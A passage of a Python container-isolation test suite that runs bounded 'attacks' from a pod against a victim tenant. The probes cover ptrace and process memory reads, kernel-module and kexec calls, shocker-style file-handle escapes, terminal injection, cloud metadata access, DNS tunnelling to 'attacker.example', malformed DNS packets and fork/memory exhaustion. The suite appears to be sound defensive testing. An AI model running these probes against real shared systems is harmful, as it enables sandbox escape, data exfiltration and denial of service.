        os._exit(0)
    t.call("our own child", "ptrace", 16, child, 0, 0)
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)


@attack("pod-process-memory")
def process_memory(t):
    raw_calls_work(t)
    t.filtered_call("process_vm_readv", os.getpid(), 0, 0, 0, 0, 1, innocent=(errno.EINVAL,))
    ours = set(os.listdir("/proc"))
    outside = [pid for pid in (2, 300, 500, 1000, 20000) if str(pid) not in ours]
    buffer = ctypes.create_string_buffer(64)
    local = ctypes.create_string_buffer(struct.pack("PN", ctypes.addressof(buffer), 64), 16)
    remote = ctypes.create_string_buffer(struct.pack("PN", 0x400000, 64), 16)
    for pid in outside:
        t.call(f"pid {pid}", "process_vm_readv", pid, local, 1, remote, 1, 0, reached=(errno.EFAULT,))


@attack("pod-signal-others")
def signal_others(t):
    """Signal 0 asks only whether the process is there and ours to signal."""
    child = os.fork()
    if child == 0:
        time.sleep(5)
        os._exit(0)
    try:
        os.kill(child, 0)
        t.control("a child of ours can be signalled", True)
    finally:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
    mine = {int(name) for name in os.listdir("/proc") if name.isdigit()}
    for pid in (2, 300, 1000, 20000):
        if pid in mine:
            continue
        t.attempt(f"kill {pid}", lambda pid=pid: os.kill(pid, 0) or "it is there")


@attack("pod-pidfd-getfd")
def pidfd_getfd(t):
    raw_calls_work(t)
    t.filtered_call("pidfd_getfd", -1, 0, 1, innocent=(errno.EINVAL,))
    child = os.fork()
    if child == 0:
        time.sleep(5)
        os._exit(0)
    fd, error = syscall("pidfd_open", child, 0)
    if error:
        t.blocked("pidfd_open of our own child", named(error))
    t.call("descriptor 1 of another process", "pidfd_getfd", fd, 1, 0)
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)


@attack("pod-kcmp")
def kcmp(t):
    raw_calls_work(t)
    t.filtered_call("kcmp", 0x7FFFFFF0, 0x7FFFFFF0, 0, 0, 0, innocent=(errno.ESRCH,))
    t.call("process 1 with ourselves", "kcmp", 1, os.getpid(), 1, 0, 0)


@attack("pod-keyrings")
def keyrings(t):
    raw_calls_work(t)
    t.filtered_call("keyctl", 0x7FFF, 0, 0, 0, 0, innocent=(errno.EOPNOTSUPP,))
    # KEYCTL_GET_KEYRING_ID of the user's keyring, which all containers of one uid would share.
    t.call("the user keyring", "keyctl", 0, -4, 1, 0, 0)
    t.call("the user session keyring", "keyctl", 0, -5, 1, 0, 0)
    t.call("a key of our own", "add_key", b"user", b"bulkhead-attack", b"x", 1, -2)
    t.call("somebody's key", "request_key", b"user", b"bulkhead-canary", 0, -2, reached=(errno.ENOKEY,))


# --- Kernel features with a record


@attack("pod-io-uring")
def io_uring(t):
    raw_calls_work(t)
    parameters = ctypes.create_string_buffer(120)
    fd, error = t.call("a ring of 4", "io_uring_setup", 4, parameters, reached=(errno.EFAULT, errno.EINVAL))
    if error == 0:
        os.close(fd)


@attack("pod-bpf")
def bpf(t):
    raw_calls_work(t)
    attributes = ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1), 128)
    fd, error = t.call("an array map", "bpf", 0, attributes, 128)
    if error == 0:
        os.close(fd)
    t.call("the ids of programs of the machine", "bpf", 11, ctypes.create_string_buffer(128), 128, reached=(errno.ENOENT,))


@attack("pod-perf-events")
def perf_events(t):
    raw_calls_work(t)
    # A software event (cpu clock) of all processes on processor 0.
    attributes = ctypes.create_string_buffer(struct.pack("IIQQQQQ", 1, 112, 0, 0, 0, 0, 1), 112)
    fd, error = t.call("all processes on a processor", "perf_event_open", attributes, -1, 0, -1, 0)
    if error == 0:
        os.close(fd)


@attack("pod-userfaultfd")
def userfaultfd(t):
    raw_calls_work(t)
    fd, error = t.call("faults of the kernel too", "userfaultfd", os.O_CLOEXEC)
    if error == 0:
        os.close(fd)


@attack("pod-kernel-module")
def kernel_module(t):
    raw_calls_work(t)
    t.call("an empty module", "init_module", 0, 0, b"", reached=(errno.EFAULT, errno.ENOEXEC, errno.EINVAL))
    t.call("a module file", "finit_module", -1, b"", 0, reached=(errno.EBADF, errno.EFAULT, errno.ENOEXEC))
    t.call("a module that is not there", "delete_module", b"bulkhead_attack", 2048, reached=(errno.ENOENT,))


@attack("pod-kexec")
def kexec(t):
    raw_calls_work(t)
    # No file: the kernel says so only to who may do it.
    t.call("a kernel file", "kexec_file_load", -1, -1, 0, 0, 0, reached=(errno.EBADF, errno.EINVAL, errno.ENOEXEC))
    t.call("unknown flags", "kexec_load", 0, 0, 0, 0xFFF0, reached=(errno.EINVAL,))


@attack("pod-reboot")
def reboot(t):
    raw_calls_work(t)
    # An unknown command, which the kernel looks at after it has looked at the caller.
    t.call("an unknown command", "reboot", 0xFEE1DEAD, 672274793, 0x1234, 0, reached=(errno.EINVAL,))


@attack("pod-clock")
def clock(t):
    raw_calls_work(t)
    t.filtered_call("clock_settime", 9999, 0, innocent=(errno.EINVAL, errno.EFAULT))
    timex = ctypes.create_string_buffer(208)
    _, error = syscall("clock_adjtime", 0, timex)
    if error == 0:
        # ADJ_STATUS, to what it is already.
        struct.pack_into("I", timex, 0, 0x0010)
        t.call("the clock's status", "clock_adjtime", 0, timex)
    else:
        t.blocked("asking for the clock's status", named(error))
    # A time zone that does not exist: the kernel says so only to who may set one.
    t.call("a time zone", "settimeofday", 0, ctypes.create_string_buffer(struct.pack("ii", 99999, 0), 8), reached=(errno.EINVAL,))


@attack("pod-host-name")
def host_name(t):
    raw_calls_work(t)
    name = os.uname().nodename.encode()
    # Its present name: nothing changes for anyone who may.
    t.call("its name", "sethostname", name, len(name))
    t.call("its domain", "setdomainname", b"(none)", 6)


@attack("pod-accounting-swap")
def accounting_and_swap(t):
    raw_calls_work(t)
    t.call("a file that is not there", "acct", b"/nonexistent/acct", reached=(errno.ENOENT,))
    t.call("a file that is not there", "swapon", b"/nonexistent/swap", 0, reached=(errno.ENOENT,))


@attack("pod-ports-and-tables")
def ports(t):
    raw_calls_work(t)
    if ARM:
        t.unable.append("this machine has no ports")
        return
    t.call("all ports", "iopl", 3)
    t.call("the first port", "ioperm", 0, 1, 1)


@attack("pod-file-handles")
def file_handles(t):
    """Opening by handle, which walks around every path and mount (the shocker attack)."""
    raw_calls_work(t)
    handle = ctypes.create_string_buffer(struct.pack("II", 8, 1) + struct.pack("II", 2, 0), 16)
    root = os.open("/", os.O_RDONLY)
    t.call("inode 2 of the disk", "open_by_handle_at", root, handle, 0, reached=(errno.ESTALE,))
    etc = os.open("/etc/hosts", os.O_RDONLY)
    t.call("inode 2 of the disk of /etc/hosts", "open_by_handle_at", etc, handle, 0, reached=(errno.ESTALE,))


@attack("pod-old-and-odd-calls")
def odd_calls(t):
    raw_calls_work(t)
    t.call("watching the whole file system", "fanotify_init", 0, 0)
    t.call("pages of process 1", "move_pages", 1, 0, 0, 0, 0, 0)
    t.call("memory of process 1", "migrate_pages", 1, 0, 0, 0)
    t.call("a 32-bit personality", "personality", 0x0008 | 0x0400000)
    if not ARM:
        t.call("descriptor tables", "modify_ldt", 0, ctypes.create_string_buffer(64), 64)


@attack("pod-old-calling-convention")
def old_calling_convention(t):
    """`int 0x80`, a second copy of all system calls that a filter may forget."""
    raw_calls_work(t)
    if ARM:
        t.unable.append("this machine has no int 0x80")
        return

    def call():
        import mmap
        code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        # mov eax, 20 (getpid); int 0x80; ret
        code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
        address = ctypes.addressof(ctypes.c_char.from_buffer(code))
        return ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    pid = os.fork()
    if pid == 0:
        answer = call()
        os._exit(42 if answer > 0 else 43)
    _, status = os.waitpid(pid, 0)
    if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 42:
        if is_gvisor():
            t.blocked("int 0x80", "answered by gVisor's kernel")
        else:
            t.escaped("the 32-bit getpid answers")
    else:
        t.blocked("int 0x80", f"status {status:#x}")


# --- Sockets


def is_gvisor():
    try:
        with open("/proc/version") as file:
            text = file.read()
        return "4.4.0" in text or "gvisor" in text.lower()
    except OSError:
        return False


def try_socket(t, what, family, kind, protocol=0):
    def make():
        with socket.socket(family, kind, protocol):
            return "a socket"
    t.attempt(what, make)


def sockets_work(t):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM):
            t.control("a TCP socket can be made", True)
    except OSError:
        t.control("a TCP socket can be made", False)


@attack("pod-raw-sockets")
def raw_sockets(t):
    sockets_work(t)
    try_socket(t, "raw TCP", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    try_socket(t, "raw ICMP", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    try_socket(t, "raw IPv6", socket.AF_INET6, socket.SOCK_RAW, 58)


@attack("pod-packet-sockets")
def packet_sockets(t):
    sockets_work(t)
    try_socket(t, "packet", 17, socket.SOCK_RAW, 0x0300)
    try_socket(t, "packet without header", 17, socket.SOCK_DGRAM, 0x0300)


@attack("pod-odd-socket-families")
def odd_families(t):
    sockets_work(t)
    for name, number in {"ALG": 38, "VSOCK": 40, "KEY": 15, "CAN": 29, "TIPC": 30, "BLUETOOTH": 31, "RDS": 21, "NFC": 39, "KCM": 41,
                         "XDP": 44, "SMC": 43, "QIPCRTR": 42, "X25": 9, "AX25": 3, "PPPOX": 24, "LLC": 26}.items():
        for kind in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_STREAM):
            try_socket(t, f"AF_{name}", number, kind)


@attack("pod-netlink")
def netlink(t):
    sockets_work(t)
    for name, number in {"NETFILTER": 12, "AUDIT": 9, "XFRM": 6, "KOBJECT_UEVENT": 15, "GENERIC": 16, "CONNECTOR": 11, "SCSI": 18,
                         "ISCSI": 8, "CRYPTO": 21, "SELINUX": 7}.items():
        try_socket(t, f"NETLINK_{name}", 16, socket.SOCK_RAW, number)


@attack("pod-configure-network")
def configure_network(t):
    """A route of its own, by the netlink family that programs need for reading."""
    try:
        link = socket.socket(16, socket.SOCK_RAW, 0)
    except OSError as error:
        t.control("a route netlink socket", False)
        t.blocked("NETLINK_ROUTE", named(error.errno))
        return
    t.control("a route netlink socket", True)
    link.settimeout(3)
    # RTM_NEWLINK of a dummy link, and RTM_NEWADDR of the gateway's address on link 2.
    address = struct.pack("BBBBI", socket.AF_INET, 32, 0, 0, 2) + struct.pack("HH", 8, 2) + socket.inet_aton("169.254.1.1")
    for what, number, body in (("an address", 20, address), ("a link down", 16, struct.pack("BxHiII", 0, 0, 2, 0, 1))):
        message = struct.pack("IHHII", 16 + len(body), number, 0x0005 | 0x0400 * (number == 20), 1, 0) + body
        link.send(message)
        try:
            answer = link.recv(4096)
            code = struct.unpack_from("i", answer, 16)[0]
            if code == 0:
                t.escaped(f"{what} was taken")
            else:
                t.blocked(what, named(-code))
        except OSError as error:
            t.blocked(what, str(error))
    link.close()


@attack("pod-abstract-sockets")
def abstract_sockets(t):
    """Names without a file belong to the network namespace (CVE-2020-15257): the machine's are not ours to see."""
    mine = f"\0bulkhead-control-{os.getpid()}"
    with socket.socket(socket.AF_UNIX) as server, socket.socket(socket.AF_UNIX) as client:
        server.bind(mine)
        server.listen()
        client.connect(mine)
        t.control("an abstract socket of our own answers", True)
    names = ["\0/containerd-shim", "\0/tmp/dbus", "\0/org/freedesktop/systemd1", "\0ISCSIADM_ABSTRACT_NAMESPACE"]
    for name in names:
        def reach(name=name):
            with socket.socket(socket.AF_UNIX) as client:
                client.connect(name)
                return "connected"
        t.attempt(f"@{name[1:]}", reach)
    text = (t.read_all("/proc/net/unix", 200_000) or b"").decode(errors="replace")
    for line in text.splitlines()[1:]:
        where = line.split()[-1]
        if "bulkhead" in where and "control" not in where:
            t.escaped(f"/proc/net/unix has {where}")


@attack("pod-platform-sockets")
def platform_sockets(t):
    own_file_works(t)
    for place in ("/run/bulkhead-main", "/run/bulkhead-main/node", "/var/run/docker.sock", "/run/containerd/containerd.sock",
                  "/run/crio/crio.sock", "/var/lib/kubelet", "/run/podman/podman.sock", *VICTIM.get("run_dirs", [])):
        try:
            seen = os.stat(place)
        except OSError as error:
            t.blocked(place, named(error.errno))
            continue
        t.escaped(f"{place} is here: mode {seen.st_mode:o}")


# --- Shared memory


@attack("pod-sysv-shared-memory")
def sysv(t):
    libc.shmget.restype = ctypes.c_int
    mine = libc.shmget(0, 4096, 0o1600)
    t.control("a segment of our own", mine >= 0)
    libc.shmctl(mine, 0, 0)
    for key in (0x62756C6B, 1, 0x5354494D):
        ctypes.set_errno(0)
        if libc.shmget(ctypes.c_int(key), 0, 0) >= 0:
            t.escaped(f"the segment with key {key:#x}")
        else:
            t.blocked(f"shmget {key:#x}", named(ctypes.get_errno()))
    for name in ("shm", "sem", "msg"):
        text = (t.read_all(f"/proc/sysvipc/{name}") or b"").decode()
        if len(text.splitlines()) > 1:
            t.escaped(f"/proc/sysvipc/{name} has {len(text.splitlines()) - 1} entries")


@attack("pod-posix-shared-memory")
def posix(t):
    own_file_works(t)
    try:
        with open("/dev/shm/control", "w") as file:
            file.write("x")
        os.unlink("/dev/shm/control")
        t.control("/dev/shm is ours to write", True)
    except OSError:
        t.control("/dev/shm is ours to write", False)
    for name in os.listdir("/dev/shm"):
        t.escaped(f"/dev/shm/{name} is not ours")
    t.blocked("/dev/shm", "empty")
    try:
        for name in os.listdir("/dev/mqueue"):
            t.escaped(f"/dev/mqueue/{name} is not ours")
        t.blocked("/dev/mqueue", "empty")
    except OSError as error:
        t.blocked("/dev/mqueue", named(error.errno))


# --- Volumes and files of others


@attack("pod-find-canary")
def find_canary(t):
    """Every file that can be read, searched for what only the victim has. Bounded by number and bytes."""
    canary = CANARY.encode()
    if not canary:
        t.unable.append("no canary was planted")
        return
    with open("/tmp/canary-control", "wb") as file:
        file.write(canary)
    looked, found = 0, []
    for root, directories, files in os.walk("/"):
        if root == "/":
            directories[:] = [name for name in directories if name not in ("proc", "sys")]
        for name in files:
            path = os.path.join(root, name)
            try:
                seen = os.lstat(path)
                if not stat.S_ISREG(seen.st_mode) or seen.st_size > 4_000_000 or name == "pod.py":
                    continue
                with open(path, "rb") as file:
                    if canary in file.read():
                        found.append(path)
                looked += 1
            except OSError:
                continue
    t.control("it finds a canary of our own", "/tmp/canary-control" in found)
    os.unlink("/tmp/canary-control")
    for path in found:
        if path != "/tmp/canary-control":
            t.escaped(f"the victim's canary is in {path}")
    t.blocked("files", f"{looked} read")


@attack("pod-platform-files")
def platform_files(t):
    """Keys, stores, logs and volumes by names that an attacker may know, wherever the machine's directories may have come to lie."""
    own_file_works(t)
    for root in VICTIM.get("state_dirs", []):
        for name in VICTIM.get("state_files", []):
            path = os.path.join(root, name)
            try:
                if stat.S_ISDIR(os.stat(path).st_mode):
                    t.attempt(f"list {path}", lambda path=path: f"{len(os.listdir(path))} entries")
                    t.attempt(f"write in {path}", lambda path=path: made_and_removed(os.path.join(path, "x")))
                else:
                    t.attempt(f"read {path}", lambda path=path: f"{len(open(path, 'rb').read(100))} bytes")
                    t.write_to(path)
            except OSError as error:
                t.blocked(path, named(error.errno))


def made_and_removed(path):
    with open(path, "x"):
        pass
    os.unlink(path)
    return "made a file"


@attack("pod-mount-sources")
def mount_sources(t):
    own_file_works(t)
    text = (t.read_all("/proc/self/mountinfo", 500_000) or b"").decode(errors="replace")
    t.control("our mounts can be read", "/proc" in text)
    for line in text.splitlines():
        if VICTIM.get("tenant") and f"/{VICTIM['tenant']}/" in line:
            t.escaped(f"a mount of the victim's: {line[:200]}")
    t.blocked("mounts", f"{len(text.splitlines())}, none of the victim's")


@attack("pod-symlink-out-of-volume")
def symlink_out(t):
    """CVE-2017-1002101, CVE-2021-25741: links in a volume, followed here, lead nowhere but into our own root."""
    own_file_works(t)
    place = "/tmp/links"
    os.makedirs(place, exist_ok=True)
    targets = {"root": "/", "climb": "../" * 40, "proc": "/proc/1/root/../..", "magic": "/proc/self/root/.."}
    for name, target in targets.items():
        path = os.path.join(place, name)
        if not os.path.islink(path):
            os.symlink(target, path)
        for leaf in ("var/lib/bulkhead-main", "run/bulkhead-main", "boot/grub", *VICTIM.get("paths", [])):
            if os.path.exists(os.path.join(path, leaf.lstrip("/"))):
                t.escaped(f"{path}/{leaf}")
        t.blocked(path, "our own root")


@attack("pod-hardlink-system-files")
def hardlink(t):
    own_file_works(t)
    for path in ("/proc/self/exe", "/etc/hosts", "/etc/resolv.conf", "/etc/hostname"):
        def link(path=path):
            os.link(path, "/tmp/hard")
            os.unlink("/tmp/hard")
            return "linked"
        t.attempt(path, link)


@attack("pod-write-platform-files")
def write_platform_files(t):
    own_file_works(t)
    t.write_to("/etc/hosts", "/etc/resolv.conf", "/etc/hostname")


# --- What the machine tells


@attack("pod-machine-counters")
def machine_counters(t):
    """What is everybody's: load, memory, uptime. Tells how busy neighbours are; named in docs/limits.md."""
    own_file_works(t)
    leaks = []
    for path in ("/proc/loadavg", "/proc/meminfo", "/proc/stat", "/proc/vmstat", "/proc/diskstats", "/proc/uptime", "/proc/net/dev",
                 "/proc/softirqs", "/proc/slabinfo", "/proc/zoneinfo", "/proc/partitions", "/proc/mounts", "/proc/swaps",
                 "/proc/pressure/cpu", "/proc/locks"):
        text = t.read_all(path, 100_000)
        if text:
            leaks.append(path)
            if VICTIM.get("tenant") and VICTIM["tenant"].encode() in text:
                t.escaped(f"{path} names the victim")
    t.blocked("counters that are the machine's" if not is_gvisor() else "counters of gVisor", " ".join(leaks))


# --- Terminal and environment


@attack("pod-terminal-injection")
def terminal(t):
    raw_calls_work(t)
    import fcntl
    import pty
    lead, follow = pty.openpty()
    for what, request in (("TIOCSTI", 0x5412), ("TIOCSTI with high bits", 0x1_0000_5412), ("TIOCLINUX", 0x541C)):
        buffer = ctypes.create_string_buffer(b"x")
        ctypes.set_errno(0)
        answer = libc.ioctl(follow, ctypes.c_ulong(request), buffer)
        error = ctypes.get_errno()
        if answer == 0:
            if is_gvisor():
                t.blocked(what, "a terminal of gVisor's own")
            else:
                t.escaped(f"{what} typed")
        else:
            t.blocked(what, named(error))
    size = fcntl.ioctl(follow, 0x5413, b"\0" * 8)
    t.control("the terminal's size can be read", len(size) == 8)
    os.close(lead)
    os.close(follow)


@attack("pod-core-dump-handler")
def core_dump_handler(t):
    """A crash must not start the machine's core dump handler with our memory as its input."""
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_CORE)
    child = os.fork()
    if child == 0:
        os.kill(os.getpid(), signal.SIGSEGV)
        os._exit(0)
    _, status = os.waitpid(child, 0)
    t.control("a child of ours crashed", os.WIFSIGNALED(status))
    if os.WCOREDUMP(status):
        t.escaped("the crash was dumped")
    else:
        t.blocked("core dump", f"limit {soft} of {hard}")
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (1 << 20, 1 << 20))
        t.escaped("the limit of core dumps can be raised")
    except (OSError, ValueError) as error:
        t.blocked("raising the limit", str(error))


@attack("pod-oom-score")
def oom_score(t):
    own_file_works(t)
    now = (t.read_all("/proc/self/oom_score_adj") or b"0").decode().strip()
    if now == "-1000":
        t.escaped("the kernel may not kill us")
    def lower():
        write_once("/proc/self/oom_score_adj", "-1000")
        seen = (t.read_all("/proc/self/oom_score_adj") or b"").decode().strip()
        write_once("/proc/self/oom_score_adj", now)
        return None if is_gvisor() else f"now {seen}"
    t.attempt("-1000", lower)


@attack("pod-priority")
def priority(t):
    def raise_priority():
        try:
            os.setpriority(os.PRIO_PROCESS, 0, -20)
            return "-20"
        except OSError as error:
            return named(error.errno)
    t.control("priority can be lowered", in_child(lambda: os.nice(5)).lstrip("-").isdigit())
    answer = in_child(raise_priority)
    if answer == "-20" and not is_gvisor():
        t.escaped("nice -20")
    else:
        t.blocked("nice -20", answer)
    def real_time():
        try:
            os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))
            return "FIFO"
        except OSError as error:
            return named(error.errno)
    answer = in_child(real_time)
    if answer == "FIFO" and not is_gvisor():
        t.escaped("real-time scheduling")
    else:
        t.blocked("SCHED_FIFO", answer)


# --- Network


def reach_tcp(host, port, source=None):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(CONNECT_SECONDS)
        if source:
            client.setsockopt(0, 15, 1)  # IP_FREEBIND
            client.bind((source, 0))
        client.connect((host, port))
        client.sendall(b"GET / HTTP/1.0\r\n\r\n")
        try:
            return f"connected, and read {client.recv(100)[:60]!r}"
        except OSError:
            return "connected"


def network_works(t):
    """Something of our own answers in the same way."""
    own = VICTIM.get("own_pod")
    if not own:
        t.unable.append("no pod of our own to compare with")
        return
    try:
        t.control(f"our own pod at {own} answers", reach_tcp(own, VICTIM.get("port", 8080)))
    except OSError as error:
        t.control(f"our own pod at {own} answers: {error}", False)


def try_tcp(t, targets):
    for host, port in targets:
        t.attempt(f"tcp {host}:{port}", lambda host=host, port=port: reach_tcp(host, port))


@attack("network-victim-pod")
def victim_pod(t):
    network_works(t)
    try_tcp(t, [(VICTIM["pod"], port) for port in (VICTIM.get("port", 8080), 22, 443)])


@attack("network-victim-service")
def victim_service(t):
    network_works(t)
    try_tcp(t, [(VICTIM["service"], VICTIM.get("port", 8080))])


@attack("network-victim-udp")
def victim_udp(t):
    network_works(t)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(CONNECT_SECONDS)
        client.sendto(b"hello", (VICTIM["pod"], VICTIM.get("port", 8080)))
        t.attempt("udp", lambda: f"answer {client.recv(100)!r}")


@attack("network-metadata")
def metadata(t):
    network_works(t)
    try_tcp(t, [("169.254.169.254", 80), ("169.254.170.2", 80), ("fd00:ec2::254", 80), ("100.100.100.200", 80), ("192.0.0.192", 80)])


@attack("network-mapped-addresses")
def mapped_addresses(t):
    """IPv4 in the clothes of IPv6, and IPv6 by the ways that lead to IPv4."""
    network_works(t)
    for address in ("169.254.169.254", VICTIM["pod"], VICTIM["service"], "127.0.0.1"):
        packed = socket.inet_aton(address)
        words = packed.hex()
        for spelling in (f"::ffff:{address}", f"64:ff9b::{words[:4]}:{words[4:]}", f"2002:{words[:4]}:{words[4:]}::1",
                         f"::{address}"):
            port = VICTIM.get("port", 8080) if address != "169.254.169.254" else 80
            t.attempt(f"tcp [{spelling}]:{port}", lambda spelling=spelling, port=port: reach_tcp(spelling, port))


@attack("network-loopback-of-neighbours")
def loopback_of_neighbours(t):
    """Sends what is for 127.0.0.1 out of the pod, where a neighbour that routes loopback would take it."""
    network_works(t)
    for port in (22, 80, 6443, 10250, VICTIM.get("port", 8080)):
        def reach(port=port):
            client = socket.socket()
            client.settimeout(CONNECT_SECONDS)
            client.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
            with client:
                client.connect(("127.0.0.1", port))
                return f"port {port} answers"
        t.attempt(f"tcp 127.0.0.1:{port} through eth0", reach)
    for address in ("127.0.0.2", "127.255.255.254"):
        t.attempt(f"tcp {address}:80", lambda address=address: reach_tcp(address, 80))


@attack("network-node-addresses")
def node_addresses(t):
    network_works(t)
    for host in VICTIM.get("node", []):
        try_tcp(t, [(host, port) for port in (22, 7443, 10250, VICTIM.get("node_port", 80))])


@attack("network-gateway-ports")
def gateway_ports(t):
    network_works(t)
    try_tcp(t, [("169.254.1.1", port) for port in (22, 80, 443, 2375, 2379, 7443, 10250)])


@attack("network-outside")
def outside(t):
    network_works(t)
    try_tcp(t, [("1.1.1.1", 443), ("192.0.2.1", 80), ("10.0.0.1", 80), ("172.17.0.1", 80)])


@attack("network-spoofed-source")
def spoofed(t):
    network_works(t)
    for source in (VICTIM["pod"], "169.254.1.1", "10.96.0.1", "127.0.0.1"):
        t.attempt(f"from {source}", lambda source=source: reach_tcp(VICTIM["own_pod"], VICTIM.get("port", 8080), source))


@attack("network-ipv6")
def ipv6(t):
    network_works(t)
    for address in ("ff02::1", "ff02::2", "fe80::1", "fd00::1"):
        def send(address=address):
            with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as client:
                client.settimeout(CONNECT_SECONDS)
                client.sendto(b"x", (address, 547, 0, socket.if_nametoindex("eth0") if not is_gvisor() else 2))
                return f"answer {client.recv(10)!r}"
        t.attempt(address, send)


@attack("network-multicast-broadcast")
def multicast(t):
    network_works(t)
    for address in ("224.0.0.1", "224.0.0.251", "239.255.255.250", "255.255.255.255", "10.128.255.255"):
        def send(address=address):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
                client.settimeout(CONNECT_SECONDS)
                client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                client.sendto(b"x", (address, 5353))
                return f"answer {client.recv(10)!r}"
        t.attempt(address, send)


@attack("network-fragments")
def fragments(t):
    """A datagram in many pieces, of which only the first has a port."""
    network_works(t)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(CONNECT_SECONDS)
        client.sendto(b"x" * 6000, (VICTIM["pod"], VICTIM.get("port", 8080)))
        t.attempt("6,000 bytes by udp", lambda: f"answer {client.recv(100)!r}")


@attack("network-path-options")
def path_options(t):
    """Loose source routing through the gateway and through our own pod, and the router alert."""
    network_works(t)
    for what, option in {"loose source route": b"\x83\x07\x04" + socket.inet_aton(VICTIM["pod"]) + b"\0",
                         "strict source route": b"\x89\x07\x04" + socket.inet_aton(VICTIM["pod"]) + b"\0"}.items():
        def send(option=option):
            with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as client:
                client.settimeout(CONNECT_SECONDS)
                client.setsockopt(0, 4, option)
                client.connect((VICTIM["pod"], VICTIM.get("port", 8080)))
                return "connected"
        t.attempt(what, send)


def ask_dns(name, kind=1, server="169.254.1.1", identifier=7):
    question = b"".join(bytes([len(p)]) + p.encode() for p in name.rstrip(".").split(".")) + b"\0" + struct.pack("!HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(2)
        client.sendto(struct.pack("!HHHHHH", identifier, 0x0100, 1, 0, 0, 0) + question, (server, 53))
        answer = client.recv(4096)
    _, flags, _, answers = struct.unpack_from("!HHHH", answer)
    return flags & 15, answers, answer


def dns_works(t):
    try:
        code, answers, _ = ask_dns(VICTIM.get("own_name", "kubernetes.default.svc.cluster.local"))
        t.control("a name of our own is answered", code == 0 and answers > 0)
    except OSError as error:
        t.control(f"a name of our own is answered: {error}", False)


@attack("network-dns-victim-names")
def dns_names(t):
    dns_works(t)
    for name in VICTIM.get("names", []):
        code, answers, _ = ask_dns(name)
        if answers:
            t.escaped(f"{name} has {answers} answers")
        else:
            t.blocked(name, f"code {code}")


@attack("network-dns-enumeration")
def dns_enumeration(t):
    dns_works(t)
    for name, kind in (("cluster.local", 252), ("svc.cluster.local", 252), ("*.svc.cluster.local", 1), ("any.any.svc.cluster.local", 33),
                       ("svc.cluster.local", 255), ("10.in-addr.arpa", 252), (reverse(VICTIM["pod"]), 12)):
        try:
            code, answers, _ = ask_dns(name, kind)
        except OSError as error:
            t.blocked(name, str(error))
            continue
        if answers:
            t.escaped(f"{name} type {kind} has {answers} answers")
        else:
            t.blocked(f"{name} type {kind}", f"code {code}")


def reverse(address):
    return ".".join(reversed(address.split("."))) + ".in-addr.arpa"


@attack("network-dns-tunnel")
def dns_tunnel(t):
    """Names that only a server outside could answer, with data in them."""
    dns_works(t)
    for name in ("c2VjcmV0.attacker.example", "x" * 60 + ".example.com", "version.bind", "localhost", "metadata.google.internal"):
        try:
            code, answers, _ = ask_dns(name, 16 if "bind" in name else 1)
        except OSError as error:
            t.blocked(name, str(error))
            continue
        if answers:
            t.escaped(f"{name} is answered")
        else:
            t.blocked(name, f"code {code}")


@attack("network-dns-malformed")
def dns_malformed(t):
    """Loops, lengths and counts that a parser may trust; it has to be there afterwards."""
    dns_works(t)
    for body in (b"\0" * 3, struct.pack("!HHHHHH", 1, 0x100, 65535, 0, 0, 0), struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\xc0\x0c\0\x01\0\x01",
                 struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\x3f" + b"a" * 10, os.urandom(512), b"\xff" * 1400):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(0.2)
            client.sendto(body, ("169.254.1.1", 53))
            try:
                t.blocked(f"{body[:12]!r}", f"{len(client.recv(4096))} bytes")
            except OSError as error:
                t.blocked(f"{body[:12]!r}", str(error))
    dns_works(t)


# --- Exhaustion, bounded by its own numbers as well; whether the victim felt it is measured elsewhere


def until_refused(t, one, many, answer):
    """The answer of a child that made as many as it could: how many, and why no more."""
    made, _, why = answer.partition(" ")
    t.control(f"{many} were made", made.isdigit() and int(made) > 10)
    if why == "none":
        t.escaped(f"{made} {many} and no end")
    else:
        t.blocked(f"{one} {made}", why)


@attack("exhaustion-processes")
def processes(t):
    """Threads count as processes do, and take less memory of ours."""
    def take():
        import threading
        threading.stack_size(65536)
        stop = threading.Event()
        made, why = 0, "none"
        try:
            while made < 4000:
                threading.Thread(target=stop.wait, daemon=True).start()
                made += 1
        except (RuntimeError, OSError) as error:
            why = str(error)
        return f"{made} {why}"
    until_refused(t, "thread", "threads", in_child(take))


@attack("exhaustion-forks")
def forks(t):
    """The tree ends with the process group of this attack."""
    def take():
        made, why = 0, "none"
        try:
            while made < 4000:
                if os.fork() == 0:
                    signal.pause()
                    os._exit(0)
                made += 1
        except OSError as error:
            why = named(error.errno)
        return f"{made} {why}"
    until_refused(t, "process", "processes", in_child(take))


@attack("exhaustion-memory")
def memory(t):
    """A child takes memory until it is stopped; the pod goes on, because it is killed first."""
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(read)
        try:
            write_once("/proc/self/oom_score_adj", "1000")
